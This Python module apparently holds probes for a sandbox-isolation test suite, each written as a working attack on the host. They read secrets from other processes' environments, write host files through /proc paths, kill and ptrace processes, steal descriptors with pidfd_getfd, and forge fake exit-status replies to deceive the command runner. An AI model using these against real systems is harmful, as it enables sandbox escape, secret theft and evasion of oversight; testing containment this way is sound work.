"""Attacks on what is outside: its secrets, files, processes and sockets. Each returns what it got, or nothing."""

import array
import contextlib
import ctypes
import fcntl
import glob
import os
import signal
import socket
import stat
import struct
from collections.abc import Iterator
from typing import Any


def _paths(given: dict[str, Any]) -> Iterator[str]:
    """The host's path itself, and through the roots and folders of processes that may be outside."""
    path = given["path"]
    yield path
    for pid in ("1", str(os.getppid()), str(given["victim"])):
        yield f"/proc/{pid}/root{path}"
        yield f"/proc/{pid}/cwd{path}"
    yield "../" * 12 + path.lstrip("/")


def environment(given: dict[str, Any]) -> list[str]:
    """Look for the host's secret in the own environment."""
    return [name for name, value in os.environ.items() if given["secret"] in value]


def process_environments(given: dict[str, Any]) -> list[str]:
    """Look for the host's secret in the environment and memory map of every process that can be seen."""
    got = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            if given["secret"].encode() in file.read():
                got.append(path)
    return got


def read_file(given: dict[str, Any]) -> list[str]:
    """Read a file of the host."""
    got = []
    for path in _paths(given):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            if given["secret"].encode() in file.read():
                got.append(path)
    return got


def write_file(given: dict[str, Any]) -> list[str]:
    """Append to a file of the host, and make one beside it. The host looks whether that came about."""
    got = []
    for path in _paths(given):
        with contextlib.suppress(OSError), open(path, "ab", opener=_no_create) as file:
            file.write(b"attacked")
            got.append(path)
        with contextlib.suppress(OSError), open(path + ".new", "xb"):
            got.append(path + ".new")
    return got


def _no_create(path: str, flags: int) -> int:
    return os.open(path, flags & ~os.O_CREAT)


def see_processes(given: dict[str, Any]) -> list[str]:
    """Find a process of the host by its command line."""
    got = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            if given["mark"].encode() in file.read():
                got.append(path)
    return got


def signal_process(given: dict[str, Any]) -> list[str]:
    """Kill a process of the host by its number. The host looks whether it lives."""
    try:
        os.kill(given["victim"], signal.SIGKILL)
    except OSError:
        return []
    return [f"kill({given['victim']}, SIGKILL) was accepted"]


def trace_process(given: dict[str, Any]) -> list[str]:
    """Trace a process of the host, and read its memory."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    pid, got = given["victim"], []
    if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE, which does not stop it
        got.append(f"ptrace({pid})")
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb"):
        got.append(f"/proc/{pid}/mem was opened")
    return got


def tcp_loopback(given: dict[str, Any]) -> list[str]:
    """Connect to a server of the host on its loopback."""
    got = []
    for host in ("127.0.0.1", "localhost", *given["addresses"]):
        with contextlib.suppress(OSError), socket.create_connection((host, given["port"]), 1.0) as made:
            made.sendall(given["mark"].encode() + b"\n")
            got.append(f"{host}:{given['port']}")
    return got


def udp_loopback(given: dict[str, Any]) -> list[str]:
    """Send a datagram to the host's loopback. Only the host can tell whether it arrived."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        for host in ("127.0.0.1", *given["addresses"]):
            with contextlib.suppress(OSError):
                made.sendto(given["mark"].encode(), (host, given["port"]))
    return []


def unix_socket(given: dict[str, Any]) -> list[str]:
    """Connect to a unix socket of the host: an abstract name, or a path."""
    got = []
    for name in given["names"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as made:
            made.settimeout(1.0)
            made.connect("\0" + name[1:] if name.startswith("@") else name)
            made.sendall(given["mark"].encode() + b"\n")
            got.append(name)
    return got


def interfaces(given: dict[str, Any]) -> list[str]:
    """List network interfaces that are up and no loopback."""
    del given
    got = []
    for _, name in socket.if_nameindex():
        request = struct.pack("16sh14x", name.encode(), 0)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made, contextlib.suppress(OSError):
            flags = struct.unpack("16xh14x", fcntl.ioctl(made, 0x8913, request))[0]  # SIOCGIFFLAGS
            if flags & 1 and not flags & 8:  # IFF_UP, IFF_LOOPBACK
                got.append(name)
    return got


def forge(given: dict[str, Any]) -> list[str]:
    """Write what looks like the answers of whatever runs commands into every descriptor within reach, then end with 7.

    Only where nothing outside is within reach does it also attack process 1 and the parent: elsewhere they are the
    host's own.
    """
    for number in range(200):
        lie = b'{"id": %d, "exit": 0, "code": 0, "exit_code": 0, "status": 0, "event": "exit"}' % number
        for descriptor in _descriptors(given):
            with contextlib.suppress(OSError):
                os.set_blocking(descriptor, False)
                os.write(descriptor, lie + (b"\n" if number % 2 else b""))
                _send_descriptors(descriptor, lie)
    if given["inside"]:
        for pid in {1, os.getppid()} - {os.getpid()}:
            for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
                with contextlib.suppress(OSError):
                    os.kill(pid, number)
    os._exit(7)


def _descriptors(given: dict[str, Any]) -> list[int]:
    found = [int(name) for name in os.listdir("/proc/self/fd")] if os.path.isdir("/proc/self/fd") else list(range(64))
    found = [each for each in found if each > 2]
    if given["inside"]:
        for pid in {1, os.getppid()}:
            for path in glob.glob(f"/proc/{pid}/fd/*"):
                with contextlib.suppress(OSError):
                    found.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            found += _stolen(pid)
    return found


def _stolen(pid: int) -> list[int]:
    """Take descriptors out of another process, as pidfd_getfd does where it is allowed."""
    libc, found = ctypes.CDLL(None, use_errno=True), []
    try:
        pidfd = os.pidfd_open(pid)
    except OSError:
        return []
    for number in range(3, 64):
        taken = libc.syscall(438, pidfd, number, 0)
        if taken >= 0:
            found.append(taken)
    return found


def _send_descriptors(descriptor: int, data: bytes) -> None:
    if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
        return
    with socket.socket(fileno=os.dup(descriptor)) as made:
        rights = array.array("i", [0, 1])
        made.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)], socket.MSG_DONTWAIT)


ATTACKS = {
    "environment": environment,
    "process environments": process_environments,
    "read file": read_file,
    "write file": write_file,
    "see processes": see_processes,
    "signal": signal_process,
    "trace": trace_process,
    "tcp": tcp_loopback,
    "udp": udp_loopback,
    "unix": unix_socket,
    "interfaces": interfaces,
    "forge": forge,
}
